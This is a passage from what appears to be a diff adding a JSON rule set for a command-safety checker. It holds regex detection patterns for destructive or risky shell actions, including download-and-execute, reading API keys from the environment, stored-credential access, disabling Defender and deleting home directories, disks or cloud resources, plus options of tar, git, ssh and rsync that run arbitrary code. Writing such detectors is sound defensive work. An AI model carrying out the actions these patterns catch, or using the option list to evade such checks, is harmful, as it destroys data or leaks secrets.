+[^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bashrc":["\\\\b(?:Add-Content|Set-Content|Out-File|ac|sc|tee|Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\
+\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Directory|File)\\\\]::Delete\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?\
+:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}(?:\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b\
+(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[A-Za-z]:|[/~])[^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?\
+:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|CreationTime|LastAccessTime|Length|Name|BaseName|FullName|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?\
+:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\\
+w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx|js|py|go|rs|java|rb|php|cpp|c|h|kt|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{\
+0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invoke-Expression|iex)\\\\s+([\\"'])(.*?)\\\\1","(?:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:gi\
+t|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|npm|psql|mysql|sqlcmd|redis-cli|mongosh|cmd|wsl|bash|sh|shutdown|vssadmin|ssh|heroku|firebase|\
+supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|rsync|robocopy)(?:\\\\.exe)?\\\\s(?:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"])*)","((?:Clear|Format|I\
+nitialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|Az\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\w+|Mg\\\\w+)\\\\b[^;|\\\\n]*)","((?:Stop-Computer|Restart-Computer|Get-Store\
+dCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPreference|Set-ExecutionPolicy(?![^;\\\\n]{0,300}(?:Process|CurrentUser))|Register-ScheduledTask|New-\
+Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"curl x | sh":["\\\\bscriptblock\\\\]::Create\\\\((?=[\\\\s\\\\S]*\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\\
+b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\bscriptblock\\\\]::Create\\\\(","(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|\
+DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(?:iex|Invoke-Expression)\\\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadStr\
+ing)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n]{0,300}(?:Where|-match)[^;\\\\n]{0,300}(?:KEY|TOKEN|SECRET|PASSW)"]}},"powershell.exe":{\
+"short":"c","long":["Command","command","encoded"],"code":["c","Command","command","encoded"],"operands":"code","ignores":["(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)\
+|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\
+\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$()\\\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)|\\\\bParseInput\\\\(\\\\s{0,40}([\\"'])(?:(?!\\\\2|\\\\\
+$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){\
+0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\))"],"does":{"rm -rf ~/*":["\\\\bWin32_UserProfile\\\\b[\
+\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\\.)?IO\\\\.Directory\\\\]::Delete\\\\(\\\\s*\\\\(?\\\\s*(?:Join-P\
+ath\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Filter|Include)\\\\w+)*\\\\s+[\\"']?~[\\"']?(?![^;\\\\n]{0,300}\
+\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s+-[cCiI]?[iI]n\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:Remove-It\
+em|ri|rm|del)\\\\b"],"truncate -s 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([\
+^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1"],"truncate -s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n]\
+{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Content\\\\b[\\\\s\\\\S]*\\\\b(?:Get\
+-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bashrc":["\\\\b(?:Add-Content|\
+Set-Content|Out-File|ac|sc|tee|Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Directory|File)\\\\]::Delete\
+\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\
+\\\\s+-\\\\w+){0,9}(?:\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[A-Za-z]:|[/~])[^\\\\s\\"'$;\
+|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|CreationTime|LastAccessTi\
+me|Length|Name|BaseName|FullName|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"'\
+]?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx|js|py|go|rs|java\
+|rb|php|cpp|c|h|kt|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invoke-Expression|iex)\\\\s+([\
+\\"'])(.*?)\\\\1","(?:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|npm|psql|mysql|sqlcmd|re\
+dis-cli|mongosh|cmd|wsl|bash|sh|shutdown|vssadmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|rsync|robocopy)(?:\\\\.exe)\
+?\\\\s(?:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"])*)","((?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|Az\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\\
+w+|Mg\\\\w+)\\\\b[^;|\\\\n]*)","((?:Stop-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPreference|Set-ExecutionPolic\
+y(?![^;\\\\n]{0,300}(?:Process|CurrentUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"curl x | sh":["\\\\bscriptblock\\\\]::Create\\\\((?=[\\\\s\\\\\
+S]*\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\bscrip\
+tblock\\\\]::Create\\\\(","(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(?:iex|Invoke-Expression)\
+\\\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n]{0,300}(?:Where|\
+-match)[^;\\\\n]{0,300}(?:KEY|TOKEN|SECRET|PASSW)"]}}},"code_variables":{"man":{"variables":["MANPAGER","PAGER"]},"apropos":{"variables":["MANPAGER","PAGER"]},"wh\
+atis":{"variables":["MANPAGER","PAGER"]},"less":{"variables":["LESSOPEN","LESSCLOSE","LESSEDIT","VISUAL","EDITOR"]},"zless":{"variables":["LESSOPEN","LESSCLOSE"\
+,"LESSEDIT","VISUAL","EDITOR"]},"lesspipe":{"variables":["LESSOPEN","LESSCLOSE","LESSEDIT","VISUAL","EDITOR"]},"journalctl":{"variables":["SYSTEMD_PAGER","SYSTE\
+MD_EDITOR","PAGER"]},"systemctl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"loginctl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"t\
+imedatectl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"crontab":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"visudo":{"variables":["SUDO_EDIT\
+OR","VISUAL","EDITOR"]},"vipw":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"vigr":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"sudo":{"variables":["SUDO\
+_EDITOR","SUDO_ASKPASS","VISUAL","EDITOR"]},"sudoedit":{"variables":["SUDO_EDITOR","SUDO_ASKPASS","VISUAL","EDITOR"]},"kubectl":{"variables":["KUBE_EDITOR","EDI\
+TOR"]},"oc":{"variables":["KUBE_EDITOR","EDITOR"]},"k":{"variables":["KUBE_EDITOR","EDITOR"]},"gh":{"variables":["GH_PAGER","GH_EDITOR","GH_BROWSER","PAGER","ED\
+ITOR","VISUAL","BROWSER","GIT_EDITOR"]},"glab":{"variables":["GH_PAGER","GH_EDITOR","GH_BROWSER","PAGER","EDITOR","VISUAL","BROWSER","GIT_EDITOR"]},"psql":{"var\
+iables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"mysql":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"mariadb":{"variabl\
+es":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"sqlite3":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"hg":{"variables":["H\
+GEDITOR","PAGER","EDITOR","VISUAL"]},"svn":{"variables":["SVN_SSH","SVN_EDITOR","EDITOR","VISUAL"]},"bat":{"variables":["BAT_PAGER","DELTA_PAGER","PAGER"]},"del\
+ta":{"variables":["BAT_PAGER","DELTA_PAGER","PAGER"]},"ssh":{"variables":["SSH_ASKPASS"]},"scp":{"variables":["SSH_ASKPASS"]},"sftp":{"variables":["SSH_ASKPASS"\
+]},"ssh-add":{"variables":["SSH_ASKPASS"]},"aws":{"variables":["AWS_PAGER","PAGER"]},"rsync":{"variables":["RSYNC_RSH"]},"cvs":{"variables":["CVS_RSH","CVSEDITO\
+R","EDITOR"]}},"git_variables":["GIT_SSH_COMMAND","GIT_SSH","GIT_EXTERNAL_DIFF","GIT_EDITOR","GIT_SEQUENCE_EDITOR","GIT_PAGER","GIT_ASKPASS","GIT_PROXY_COMMAND"\
+,"EDITOR","VISUAL","PAGER","SSH_ASKPASS"],"git_code":{"rebase":{"short":"x","long":["exec"],"code":["x","exec"]},"filter-branch":{"short":"","long":["tree-filte\
+r","index-filter","env-filter","msg-filter","parent-filter","commit-filter","tag-name-filter","setup"],"code":["tree-filter","index-filter","env-filter","msg-fi\
+lter","parent-filter","commit-filter","tag-name-filter","setup"]},"difftool":{"short":"x","long":["extcmd"],"code":["x","extcmd"]},"fetch":{"short":"","long":["\
+upload-pack"],"code":["upload-pack"]},"pull":{"short":"","long":["upload-pack"],"code":["upload-pack"]},"clone":{"short":"u","long":["upload-pack"],"code":["u",\
+"upload-pack"]},"ls-remote":{"short":"","long":["upload-pack","exec"],"code":["upload-pack","exec"]},"push":{"short":"","long":["receive-pack","exec"],"code":["\
+receive-pack","exec"]},"archive":{"short":"","long":["exec"],"code":["exec"]},"grep":{"short":"","long":["open-files-in-pager"],"code":["open-files-in-pager"]}}\
+,"code_options":{"tar":{"short":"IF","long":["checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"code":["I\
+","F","checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"bsdtar":{"s\
+hort":"IF","long":["checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"code":["I","F","checkpoint-action",\
+"to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"gtar":{"short":"IF","long":["checkpoi\
+nt-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"code":["I","F","checkpoint-action","to-command","use-compress-p\
+rogram","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"gdb":{"short":"x","long":["ex","eval-command"],"code":["ex","eval\
+-command"],"pattern":"^\\\\s*(?:shell|!)\\\\s*(.+)"},"osascript":{"short":"el","code":["e"],"pattern":"do shell script \\"((?:[^\\"\\\\\\\\]|\\\\\\\\.)*)\\""},"concurrently":{\
+"short":"ncpm","long":["names","prefix"],"operands":"code"},"rsync":{"short":"efBM","long":["rsh","rsync-path"],"code":["e","rsh","rsync-path"]},"scp":{"short":\
+"cFiJloPS","code":["S"]},"zip":{"long":["TT","unzip-command"],"code":["TT","unzip-command"]},"man":{"short":"PHLm","long":["pager","html"],"code":["P","pager","\
+H","html"]},"ansible":{"short":"aimuf","long":["args","module-name","inventory","user"],"code":["a","args"],"unless":["check","C","syntax-check","list-hosts"]},\
+"ansible-playbook":{"short":"ielftu","long":["inventory","extra-vars","limit","forks","tags","skip-tags","user","private-key","vault-password-file","start-at-ta\
+sk"],"unless":["check","C","syntax-check","list-hosts","list-tasks","list-tags"],"does":{"rm -r ~/$":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\\
+t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?(?:~|\\\
+\\{\\\\{[^}\\\\n]*(?:HOME|home|user_dir)\\\\b[^}\\\\n]*\\\\}\\\\}|\\\\$HOME|/(?:home|Users|root)/?(?:\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})?)/([^\\\\s\\"',}]+|\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})"],"rm -r $":["\
+\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\
+\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?([/.\\\\w][^\\\\s\\"',}]*)","\\\\bfile:[ \\\\t]*(?=[^\\\\n]*\\\\bstate[=:][ \\\\t]*absent)[^\\\\n]*?\\\\b(?:path|dest)[=:][ \\\\t]\
+*[\\"']?([/.\\\\w][^\\\\s\\"',}]*)"],"rm -r ~":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?\
+(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?(?:~|\\\\{\\\\{[^}\\\\n]*(?:HOME|home|user_dir)\\\\b[^}\\\\n]*\\\\}\\\\}|\\\\$HOME\
+|/(?:home|Users|root)/?(?:\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})?)/?[\\"']?[ \\\\t]*\\\\n"],"cloud-sdk delete":["\\\\b(?:(?:kubernetes\\\\.core|amazon\\\\.aws|community\\\\.aws|azure\\\\.azcol\
+lection|google\\\\.cloud|community\\\\.digitalocean|hetzner\\\\.hcloud|openstack\\\\.cloud|community\\\\.(?:postgresql|mysql|mongodb|vmware|okd|proxmox))\\\\.\\\\w+|k8s|helm|\
+ec2(?:_instance|_vol)?|rds(?:_instance|_cluster)?|s3_bucket|route53|gcp_\\\\w+|azure_rm_\\\\w+|(?:community\\\\.docker\\\\.)?docker_volume|postgresql_db|mysql_db|mongod\
+b_user|vmware_guest):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent|terminated|deleted)\\\\b)","\\\\b(?:(?:kubernetes\\\\.c\
+ore|amazon\\\\.aws|community\\\\.aws|azure\\\\.azcollection|google\\\\.cloud|community\\\\.digitalocean|hetzner\\\\.hcloud|openstack\\\\.cloud|community\\\\.(?:postgresql|mysql\
+|mongodb|vmware|okd|proxmox))\\\\.\\\\w+|k8s|helm|ec2(?:_instance|_vol)?|rds(?:_instance|_cluster)?|s3_bucket|route53|gcp_\\\\w+|azure_rm_\\\\w+|(?:community\\\\.docker\\\\\
+.)?docker_volume|postgresql_db|mysql_db|mongodb_user|vmware_guest):(?=[^\\\\n]*\\\\bstate[=:][ \\\\t]*(?:absent|terminated|deleted)\\\\b)"],"userdel $":["\\\\b(?:(?:ansib\
+le\\\\.builtin\\\\.)?user):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\\
+t]+name:[ \\\\t]*[\\"']?([\\\\w.-]+)"],"systemctl stop $":["^(?![\\\\s\\\\S]*\\\\bstate:[ \\\\t]*(?:re)?started\\\\b)[\\\\s\\\\S]*?\\\\b(?:(?:ansible\\\\.builtin\\\\.)?(?:service|system\
+d(?:_service)?)):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:stopped)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+na\
+me:[ \\\\t]*[\\"']?([\\\\w@.-]+)"],"reboot":["\\\\b(?:ansible\\\\.builtin\\\\.reboot|community\\\\.general\\\\.shutdown):"],"$":["\\\\b(?:shell|command|raw|cmd)[ \\\\t]*:[ \\\\t]*(?\
+![|>\\"'\\\\s])(?:cmd=)?([^\\\\n]+)","\\\\b(?:shell|command|raw|cmd)[ \\\\t]*:[ \\\\t]*([\\"'])([^\\\\n]+)\\\\1[ \\\\t]*(?=\\\\n|$)","\\\\b(?:shell|raw|cmd)[ \\\\t]*:[ \\\\t]*[|>][-+]?[ \
+\\\\t]*\\\\n((?:[ \\\\t]+(?![ \\\\t]|- |\\\\w+:(?:[ \\\\t\\\\n]|$))[^\\\\n]*(?:\\\\n|$)){1,60})"]}},"editor":{"does":{"truncate -s 0 $":["^(?![\\\\s\\\\S]*(?:\\\\b\\\\d*(?:r|read|pu|put|\
+norm|normal|append|setline|readfile)\\\\b|\\\\n\\\\s*[aic]\\\\s*\\\\n))[\\\\s\\\\S]*?(?:^|\\\\n\\\\s*:?)(?:args|argadd|n|next|e|edit)!?[ \\\\t]+([^|\\\\s][^|\\\\n]*)[\\\\s\\\\S]*[|\\\\s:](?:\
+%|[01],\\\\$)d(?:elete)?\\\\b[\\\\s\\\\S]*\\\\b(?:up|update|w|wq|wa|wqa|write|wn|x|xa|xall|xit)\\\\b"],"rm -r $":["\\\\bdelete\\\\(\\\\s*(?:expand\\\\(\\\\s*|fnamemodify\\\\(\\\\s*)?[\\"'\
+]([^\\"'|]+)[\\"']"]}},"terraform":{"does":{"terraform output -raw secret":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"tofu":{"doe\
+s":{"terraform output -raw secret":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"terragrunt":{"does":{"terraform output -raw secre\
+t":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"nodemon":{"short":"x","long":["exec"],"code":["x","exec"]},"nix-shell":{"short":"\
+pAI","long":["run","command"],"code":["run","command"]}},"formats":{"date":{"prefix":"+"},"git":{"long":["format","pretty"],"names":["format","pretty"]},"curl":\
+{"short":"woXHdFuAebcT","long":["write-out","output"],"names":["w","write-out"]},"ps":{"short":"oOpCuUgGts","names":["o","O","format"],"unread":"=[\\\\s\\\\S]*[^\\\\w\
+,=%:]"},"numfmt":{"short":"d","long":["format","suffix","from","to"],"names":["format","suffix","invalid"],"unread":"[^\\\\w%.'+-]"},"expr":{"unread":"^(?!(?:(?:-\
+?\\\\d+|\\\\uFFFC+|[-+*/%()|&<>=!]{1,2}|:\\\\s\\\\S+|match|length|index)(?:\\\\s+|$))*$)"},"docker":{"short":"f","long":["format"],"names":["f","format"],"unread":"^(?!(?\
+:json|raw|table\\\\b.*|[\\\\w.-]+=[\\\\w./:-]*)$)(?!(?:\\\\{\\\\{(?!-?\\\\s*(?:print(?:f|ln)?\\\\s*)?[\\"\`])[^}]*\\\\}\\\\}|\\\\\\\\[nt]|[\\\\s,:=|-])*$)"},"podman":{"short":"f","long":\
+["format"],"names":["f","format"],"unread":"^(?!(?:json|raw|table\\\\b.*|[\\\\w.-]+=[\\\\w./:-]*)$)(?!(?:\\\\{\\\\{(?!-?\\\\s*(?:print(?:f|ln)?\\\\s*)?[\\"\`])[^}]*\\\\}\\\\}|\\\\\\\\[\
+nt]|[\\\\s,:=|-])*$)"},"kubectl":{"short":"on","long":["output","namespace"],"names":["o","output"],"unread":"^=?(?:jsonpath|go-template)[\\\\w-]*=(?!(?:\\\\{+(?:\\"(?\
+:\\\\\\\\[nt]|[,:. ])*\\"|(?:[^\\"'{}]|[=!]=\\\\s*[\\"'][^\\"']*[\\"'])*)\\\\}+|[\\\\s,:=-])*$)"}},"getopt":{"find":{"long":["name","iname","path","ipath","wholename","iwholen\
+ame","regex","iregex","lname","ilname","type","xtype","size","mtime","atime","ctime","mmin","amin","cmin","used","newer","anewer","cnewer","user","group","uid",\
+"gid","perm","links","inum","samefile","context","fstype","maxdepth","mindepth","regextype","printf","fprint","fprint0","fls","files0-from"]},"editor":{"short":\
+"cS","long":["cmd"],"permuted":true},"ssh":{"short":"bBcDEeFIiJLlmOopQRSWw"},"container":{"short":"aceghlmpuvwfHnq","long":["env","env-file","user","workdir","d\
+etach-keys","name","volume","mount","network","publish","label","entrypoint","add-host","cap-add","cap-drop","cpus","cpuset-cpus","device","dns","expose","gpus"\
+,"group-add","hostname","ip","ipc","link","log-driver","log-opt","memory","pid","platform","pull","restart","runtime","security-opt","shm-size","stop-signal","t\
+mpfs","ulimit","userns","volumes-from","cgroupns","host","context","config","file","project-name","profile","project-directory","namespace","container","index",\
+"kubeconfig","cluster","as","image","target"]},"copy":{"short":"tSgmo","long":["target-directory","suffix","mode","owner","group"],"permuted":true},"request":{"\
+short":"oHdXAFuTebKCmxEywzU","long":["d","data","data-raw","data-binary","data-urlencode","data-ascii","json","post-data","body-data","header","request","user",\
+"output","form","url","user-agent"],"permuted":true},"tmux":{"short":"LSfcT"},"tmux-command":{"short":"stncxyeFlp"},"screen":{"short":"SscehpTt"},"git":{"short"\
+:"Cc","long":["git-dir","work-tree","namespace","exec-path","config-env","super-prefix","attr-source","list-cmds"]},"sed":{"short":"efl","long":["expression","f\
+ile","line-length"],"permuted":true},"xargs":{"short":"aEILnPsd","long":["arg-file","delimiter","max-lines","max-args","max-procs","max-chars","process-slot-var\
+"]},"parallel":{"short":"jNnLSIaCEPsd","long":["jobs","max-args","max-lines","max-replace-args","sshlogin","sshloginfile","arg-file","colsep","delay","timeout",\
+"joblog","results","retries","workdir","wd","tmpdir","replace","delimiter","header","halt","nice","load","memfree","basefile","return","trc","env","profile","ta\
+gstring","tmux","block","recstart","recend","shuf","limit","term-seq","arg-sep","arg-file-sep","rpl","max-chars","max-procs"]},"shell":{"short":"oO","long":["rc\
+file","init-file","emulate"]},"fish":{"short":"cCdDfop","long":["command","init-command","features","debug","debug-level","debug-output","profile","profile-star\
+tup"]},"make":{"short":"fCIjlo","long":["file","makefile","directory","eval","jobs"],"permuted":true},"just":{"short":"fd","long":["justfile","working-directory\
+","set"]},"transfer":{"short":"BbcDFiJloPRSsXepu","long":["rcfile"],"permuted":true},"grep":{"short":"efmABC","long":["regexp","file","max-count","include","exc\
+lude","exclude-dir","color","context"],"permuted":true}},"shell_variables":{"HOME":"~","IFS":" \\t\\n","SHELL":"/bin/bash","BASH":"/bin/bash","TMPDIR":"/tmp","?":\
